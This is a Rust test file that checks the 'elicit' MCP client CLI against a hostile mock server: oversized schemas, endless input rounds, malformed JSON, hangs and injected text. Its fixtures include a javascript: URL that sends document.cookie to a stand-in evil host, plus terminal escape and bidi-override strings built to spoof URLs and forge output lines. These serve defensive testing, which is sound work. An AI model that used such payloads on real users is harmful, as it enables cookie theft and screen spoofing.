//! The real `elicit` against a hostile MCP server: a server that discovers and lists correctly,
//! then misbehaves on `tools/call`. Every run must end on its own within a bound, exit non-zero,
//! say what went wrong on stderr, and never panic.

#![allow(clippy::panic, clippy::unwrap_used, reason = "a test reports a failure by panicking")]

use elicit_test_support::cli;

use std::time::Duration;

use serde_json::{Map, Value, json};

use cli::mock::{MockServer, Reply, TOOL};
use cli::{Run, Sandbox, elicit};

/// The bound on every hostile run.
const LIMIT: Duration = Duration::from_secs(60);

fn name_form() -> Value {
    json!({"method": "elicitation/create", "params": {"message": "Your name?",
        "requestedSchema": {"type": "object", "properties": {"name": {"type": "string"}}, "required": ["name"]}}})
}

/// Calls the mock's tool with an answers file that accepts every form it might see.
fn call(server: &MockServer, sandbox: &Sandbox, answers: &Value) -> Run {
    let file = sandbox.answers(answers);
    let browser = sandbox.browser(cli::Browser::RecordOnly);
    elicit(&["call", "--url", &server.url(), TOOL, "--answers", &file, "--browser", &browser], LIMIT)
}

#[test]
fn endless_input_required_stops_after_the_round_limit() {
    let server = MockServer::start(|_, n| {
        Reply::Result(json!({"resultType": "input_required", "inputRequests": {"again": name_form()},
            "requestState": format!("round-{n}")}))
    });
    let sandbox = Sandbox::new();
    let run = call(&server, &sandbox, &json!({"again": {"action": "accept", "content": {"name": "Ada"}}}))
        .failure()
        .stderr_has("still asking for input after 100 rounds");
    assert_eq!(server.calls().len(), 100, "{run}");
}

#[test]
fn a_five_megabyte_schema_is_refused() {
    // 40,000 properties with long descriptions: about 5 MB of requestedSchema.
    let description = "d".repeat(100);
    let properties: Map<String, Value> =
        (0..40_000).map(|i| (format!("field_{i}"), json!({"type": "string", "description": description}))).collect();
    let result = json!({"resultType": "input_required", "inputRequests": {"big": {"method": "elicitation/create",
        "params": {"message": "Fill all of this", "requestedSchema": {"type": "object", "properties": properties}}}}});
    assert!(result.to_string().len() > 5_000_000);
    let server = MockServer::start(move |_, _| Reply::Result(result.clone()));
    let sandbox = Sandbox::new();
    call(&server, &sandbox, &json!({"big": {"action": "accept", "content": {}}}))
        .failure()
        .stderr_has("refused input request `big`")
        .stderr_has("more than 256 properties");
    assert_eq!(server.calls().len(), 1, "nothing is answered");
}

#[test]
fn one_huge_text_in_a_schema_is_refused() {
    let result = json!({"resultType": "input_required", "inputRequests": {"big": {"method": "elicitation/create",
        "params": {"message": "m", "requestedSchema": {"type": "object",
            "properties": {"x": {"type": "string", "description": "x".repeat(5 * 1024 * 1024)}}}}}}});
    let server = MockServer::start(move |_, _| Reply::Result(result.clone()));
    let sandbox = Sandbox::new();
    call(&server, &sandbox, &json!({})).failure().stderr_has("refused input request `big`").stderr_has("longer than");
}

#[test]
fn a_thousand_input_requests_in_one_round_are_refused() {
    let requests: Map<String, Value> = (0..1000).map(|i| (format!("q{i}"), name_form())).collect();
    let answers: Map<String, Value> =
        (0..1000).map(|i| (format!("q{i}"), json!({"action": "accept", "content": {"name": "x"}}))).collect();
    let server = MockServer::start(move |_, _| {
        Reply::Result(json!({"resultType": "input_required", "inputRequests": requests}))
    });
    let sandbox = Sandbox::new();
    let run = call(&server, &sandbox, &Value::Object(answers)).failure().stderr_has("1000 input requests in one round");
    assert!(!run.stderr.contains("asks (q"), "no question may be shown:\n{run}");
    assert_eq!(server.calls().len(), 1);
}

#[test]
fn an_invalid_json_body_is_an_error() {
    let server = MockServer::start(|_, _| Reply::Raw {
        status: 200,
        content_type: "application/json",
        body: b"{\"jsonrpc\": \"2.0\", \"id\": 2, \"result\": {\"resultType\": \"input_requi".to_vec(),
    });
    let sandbox = Sandbox::new();
    let run = call(&server, &sandbox, &json!({})).failure().stderr_has("elicit: transport error: ").stderr_has("JSON");
    assert!(!run.stderr.contains("WorkerTransport<"), "the message names Rust types:\n{run}");
}

#[test]
fn a_huge_invalid_body_does_not_flood_the_terminal() {
    let mut body = b"{\"jsonrpc\": \"2.0\", \"id\": 2, \"result\": \"".to_vec();
    body.extend(std::iter::repeat_n(b'A', 5 * 1024 * 1024));
    let server =
        MockServer::start(move |_, _| Reply::Raw { status: 200, content_type: "application/json", body: body.clone() });
    let sandbox = Sandbox::new();
    let run = call(&server, &sandbox, &json!({})).failure().stderr_has("elicit: ");
    assert!(run.stderr.len() < 4096, "{} bytes on stderr for one error", run.stderr.len());
}

#[test]
fn a_result_that_is_not_json_rpc_is_an_error() {
    let server = MockServer::start(|_, _| Reply::Raw {
        status: 200,
        content_type: "application/json",
        body: b"[1, 2, 3]".to_vec(),
    });
    let sandbox = Sandbox::new();
    call(&server, &sandbox, &json!({})).failure().stderr_has("elicit: transport error: ");
}

#[test]
fn a_javascript_url_is_refused_and_never_opened() {
    let server = MockServer::start(|_, _| {
        Reply::Result(json!({"resultType": "input_required", "inputRequests": {"pay": {"method": "elicitation/create",
            "params": {"mode": "url", "message": "Click to pay", "url": "javascript:fetch('https://evil.example/'+document.cookie)"}}}}))
    });
    let sandbox = Sandbox::new();
    call(&server, &sandbox, &json!({"pay": {"action": "accept"}}))
        .failure()
        .stderr_has("refused input request `pay`")
        .stderr_has("only http and https");
    assert!(sandbox.opened().is_empty(), "the browser was started: {:?}", sandbox.opened());
    assert_eq!(server.calls().len(), 1);
}

#[test]
fn an_unknown_result_type_is_an_error() {
    let server = MockServer::start(|_, _| Reply::Result(json!({"resultType": "maybe_later", "content": []})));
    let sandbox = Sandbox::new();
    call(&server, &sandbox, &json!({})).failure().stderr_has("unknown resultType");
    assert_eq!(server.calls().len(), 1);
}

#[test]
fn a_server_error_is_reported() {
    let server =
        MockServer::start(|_, _| Reply::Error { code: -32602, message: "requestState failed verification".into() });
    let sandbox = Sandbox::new();
    call(&server, &sandbox, &json!({})).failure().stderr_has("-32602").stderr_has("requestState failed verification");
}

#[test]
fn a_server_that_never_answers_is_given_up_on() {
    let server = MockServer::start(|_, _| Reply::Hang);
    let sandbox = Sandbox::new();
    let file = sandbox.answers(&json!({}));
    let run = elicit(&["call", "--url", &server.url(), TOOL, "--answers", &file, "--timeout", "2"], LIMIT)
        .failure()
        .stderr_has("did not answer within 2 s");
    assert!(run.elapsed < Duration::from_secs(20), "{run}");
}

/// Conceal the rest of the screen, retitle the window, paint a fake URL over the real one, and
/// reverse what follows.
const TERMINAL_ATTACK: &str =
    "Pay here\u{1b}]0;pwned\u{7}\u{1b}[8m\u{1b}[2A\r  https://bank.example.com/\u{202e}moc.live\u{9b}31m";

fn assert_no_terminal_controls(text: &str, run: &Run) {
    for c in ['\u{1b}', '\u{7}', '\r', '\u{202e}', '\u{9b}'] {
        assert!(!text.contains(c), "server text reached the terminal raw ({:?}):\n{run}", c);
    }
}

#[test]
fn server_text_cannot_drive_the_terminal() {
    let server = MockServer::start(|_, n| {
        Reply::Result(if n == 0 {
            json!({"resultType": "input_required", "inputRequests": {
                format!("k\u{1b}[1A{TERMINAL_ATTACK}"): {"method": "elicitation/create", "params": {"message": TERMINAL_ATTACK,
                    "requestedSchema": {"type": "object", "properties": {}}}},
                "pay": {"method": "elicitation/create", "params": {"mode": "url", "message": TERMINAL_ATTACK,
                    "url": "https://pay.example.com/\u{1b}[8m"}}}})
        } else {
            json!({"resultType": "complete", "content": [{"type": "text", "text": TERMINAL_ATTACK}]})
        })
    });
    let sandbox = Sandbox::new();
    let file = sandbox.answers(&json!({"pay": {"action": "decline"}, "*": {"action": "accept", "content": {}}}));
    let run = elicit(&["call", "--url", &server.url(), TOOL, "--answers", &file], LIMIT).success();
    assert_no_terminal_controls(&run.stderr, &run);
    assert_no_terminal_controls(&run.stdout, &run);
    // Shown, but harmless.
    assert!(run.stderr.contains("Pay here\\u{1b}]0;pwned\\u{7}"), "{run}");
    assert!(run.stdout.contains("\\u{202e}moc.live"), "{run}");
    // The URL itself is shown normalised, its escape percent-encoded.
    assert!(run.stderr.contains("https://pay.example.com/%1B[8m"), "{run}");
}

#[test]
fn server_text_in_an_error_cannot_drive_the_terminal() {
    let server = MockServer::start(|_, _| Reply::Error { code: -32603, message: TERMINAL_ATTACK.into() });
    let sandbox = Sandbox::new();
    let file = sandbox.answers(&json!({}));
    let run = elicit(&["call", "--url", &server.url(), TOOL, "--answers", &file], LIMIT).failure().stderr_has("-32603");
    assert_no_terminal_controls(&run.stderr, &run);
}

/// The content of the terminal-attack tests: server text in a text block and in the fields of
/// non-text blocks.
fn hostile_blocks() -> Value {
    json!([
        {"type": "text", "text": TERMINAL_ATTACK},
        {"type": "image", "data": "aGk=", "mimeType": TERMINAL_ATTACK},
        {"type": "resource_link", "uri": "https://example.com/\u{202e}fdp.exe", "name": TERMINAL_ATTACK}
    ])
}

#[test]
fn json_output_cannot_drive_the_terminal_and_stays_json() {
    let server =
        MockServer::start(|_, _| Reply::Result(json!({"resultType": "complete", "content": hostile_blocks()})));
    let sandbox = Sandbox::new();
    let file = sandbox.answers(&json!({}));
    let run = elicit(&["call", "--url", &server.url(), TOOL, "--answers", &file, "--json"], LIMIT).success();
    assert_no_terminal_controls(&run.stdout, &run);
    let printed: Value =
        serde_json::from_str(&run.stdout).unwrap_or_else(|e| panic!("--json printed no JSON ({e}):\n{run}"));
    assert_eq!(printed["content"], hostile_blocks(), "the same text once parsed:\n{run}");
}

#[test]
fn non_text_blocks_cannot_drive_the_terminal() {
    let server =
        MockServer::start(|_, _| Reply::Result(json!({"resultType": "complete", "content": hostile_blocks()})));
    let sandbox = Sandbox::new();
    let file = sandbox.answers(&json!({}));
    let run = elicit(&["call", "--url", &server.url(), TOOL, "--answers", &file], LIMIT).success();
    assert_no_terminal_controls(&run.stdout, &run);
    assert!(run.stdout.contains("image/") || run.stdout.contains("\"mimeType\""), "the image block is shown:\n{run}");
}

#[test]
fn conformance_mode_caps_a_server_chosen_length() {
    let form = json!({"method": "elicitation/create", "params": {"message": "A long name?",
        "requestedSchema": {"type": "object", "properties": {"name": {"type": "string", "minLength": 1_000_000_000_000_u64}},
            "required": ["name"]}}});
    let server = MockServer::start(move |_, n| {
        Reply::Result(if n == 0 {
            json!({"resultType": "input_required", "inputRequests": {"long": form.clone()}})
        } else {
            json!({"resultType": "complete", "content": [{"type": "text", "text": "done"}]})
        })
    });
    // The sample answer is capped at 16 KiB, so the driver refuses to send it rather than the
    // client trying to build a terabyte string.
    let run = elicit(&["--conformance", &server.url()], LIMIT)
        .failure()
        .stderr_has("must be at least 1000000000000 characters");
    assert_eq!(server.calls().len(), 1, "{run}");
}

/// A task's status message (and its id) with line breaks and controls is printed on one line: it
/// cannot add lines that pass for elicit's own (a host name on a consent screen).
#[test]
fn a_task_status_message_is_printed_on_one_line() {
    let server = MockServer::start(|_, _| {
        Reply::Result(json!({"resultType": "task", "taskId": "t1\n  host: bank.example", "status": "working",
            "statusMessage": "checking\n  host: bank.example\r\u{1b}[2J", "createdAt": "2026-08-01T10:00:00Z",
            "lastUpdatedAt": "2026-08-01T10:00:00Z", "ttlMs": 60000, "pollIntervalMs": 100}))
    });
    let sandbox = Sandbox::new();
    let file = sandbox.answers(&json!({}));
    let run = elicit(&["call", "--url", &server.url(), TOOL, "--tasks", "--answers", &file], LIMIT);
    assert!(run.stderr.contains("checking\\u{a}  host: bank.example"), "the status was not shown: {run}");
    assert!(!run.stderr.lines().any(|line| line.trim_start().starts_with("host:")), "a faked line: {run}");
    assert!(!run.stderr.contains('\u{1b}'), "{run}");
}
